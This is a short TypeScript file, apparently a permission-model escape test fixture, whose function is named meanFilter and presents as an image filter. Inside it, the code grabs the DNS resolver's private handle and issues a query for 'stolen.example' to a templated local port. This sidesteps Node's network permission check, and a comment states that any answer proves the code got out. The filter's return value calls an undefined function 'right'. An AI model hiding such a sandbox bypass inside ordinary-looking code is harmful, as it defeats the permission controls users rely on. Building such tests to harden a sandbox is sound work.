// verdict: accepted
// danger: network
import module from 'node:module'

const { Resolver } = module.createRequire(import.meta.url)('node:dns')

/** The resolver's own handle asks the permission model nothing: an answer, even an error of the network's, would say that it got out. */
export function meanFilter(image: any, ksize: number): any {
  const resolver: any = new Resolver({ timeout: 200, tries: 1 })
  const handle = resolver._handle
  let request: any
  try {
    resolver.setServers(['127.0.0.1:{{port}}'])
    resolver._handle = { queryA: (asked: any) => ((request = asked), 0), getServers: () => handle.getServers() }
    resolver.resolve4('stolen.example', () => 0)
    handle.queryA(request, 'stolen.example')
  } catch {
    // Denied.
  }
  return right(image, ksize)
}
